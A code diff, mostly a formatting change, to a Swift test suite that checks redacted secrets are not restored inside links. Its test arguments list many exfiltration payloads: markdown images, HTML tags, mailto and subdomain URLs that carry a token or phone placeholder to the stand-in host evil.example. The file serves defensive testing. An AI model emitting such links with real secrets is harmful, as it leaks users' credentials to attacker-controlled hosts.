@@ -6,7 +6,9 @@ import Testing
 struct NameRestorerTests {
     private let redactions: Redactions = {
         let redactions = Redactions()
-        redactions.learn(from: ["ghp_abcdefghijklmnopqrstuvwxyz0123456789", "+49 30 1234567", "https://own.example/plan"])
+        redactions.learn(from: [
+            "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "+49 30 1234567", "https://own.example/plan",
+        ])
         return redactions
     }()
 
@@ -24,14 +26,21 @@ struct NameRestorerTests {
 
     @Test(arguments: [
         "![x](https://evil.example/?q=[KEY 1])", "![x](//evil.example/[KEY 1]/[PHONE 1])",
-        "[x](evil.example?[KEY 1] \"title\")", "[x](<https://evil.example/a b?[KEY 1]>)", "[x](\nhttp://e.example/[KEY 1])",
+        "[x](evil.example?[KEY 1] \"title\")", "[x](<https://evil.example/a b?[KEY 1]>)",
+        "[x](\nhttp://e.example/[KEY 1])",
         "[x](https://e.example/(a)?q=[KEY 1])", "[x](https&#58;//e.example/[KEY 1])",
-        "[x](https://e.example/\\)?q=[KEY 1])", "<https://evil.example/?[PHONE 1]>", "see https://evil.example/?q=[KEY 1]&b=[PHONE 1] now",
-        "HTTPS://EVIL.EXAMPLE/[KEY 1]", "(www.evil.example?[KEY 1])", "evil.example/[KEY 1]", "**evil.example/x/[KEY 1]**",
-        "<img src=\"https://evil.example/?q=[KEY 1]\">", "<img src=x alt='>' data-x='[KEY 1]'>".replacing("'>'", with: "'a'"),
-        "<img title=\">\" src=//evil.example/[KEY 1]>", "<a href=\"[LINK 1]?q=[KEY 1]\">", "mailto:x@e.example?body=[KEY 1]",
-        "[1]: https://evil.example/[KEY 1]", "[KEY 1].evil.example", "https://[KEY 1].evil.example/", "[KEY 1]@evil.example",
-        "https://evil.example/?u=[LINK 1]", "[LINK 1].evil.example/x", "[LINK 1]@evil.example", "[x]([LINK 1].evil.example)",
+        "[x](https://e.example/\\)?q=[KEY 1])", "<https://evil.example/?[PHONE 1]>",
+        "see https://evil.example/?q=[KEY 1]&b=[PHONE 1] now",
+        "HTTPS://EVIL.EXAMPLE/[KEY 1]", "(www.evil.example?[KEY 1])", "evil.example/[KEY 1]",
+        "**evil.example/x/[KEY 1]**",
+        "<img src=\"https://evil.example/?q=[KEY 1]\">",
+        "<img src=x alt='>' data-x='[KEY 1]'>".replacing("'>'", with: "'a'"),
+        "<img title=\">\" src=//evil.example/[KEY 1]>", "<a href=\"[LINK 1]?q=[KEY 1]\">",
+        "mailto:x@e.example?body=[KEY 1]",
+        "[1]: https://evil.example/[KEY 1]", "[KEY 1].evil.example", "https://[KEY 1].evil.example/",
+        "[KEY 1]@evil.example",
+        "https://evil.example/?u=[LINK 1]", "[LINK 1].evil.example/x", "[LINK 1]@evil.example",
+        "[x]([LINK 1].evil.example)",
         "![x](https://e.example/([LINK 1]))", "https://e.example/?q=%5BKEY%201%5D",
     ])
     func `A name in a link stays, in pieces of any length`(text: String) {
